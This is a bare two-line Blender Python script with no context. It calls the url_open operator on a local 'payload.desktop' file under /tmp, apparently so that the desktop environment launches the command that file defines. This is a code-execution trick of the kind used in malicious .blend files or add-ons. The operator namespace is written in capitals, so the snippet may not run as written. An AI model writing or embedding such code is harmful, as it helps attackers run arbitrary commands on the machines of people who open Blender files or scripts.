import bpy
bpy.ops.WM.url_open(url="file:///tmp/payload.desktop")
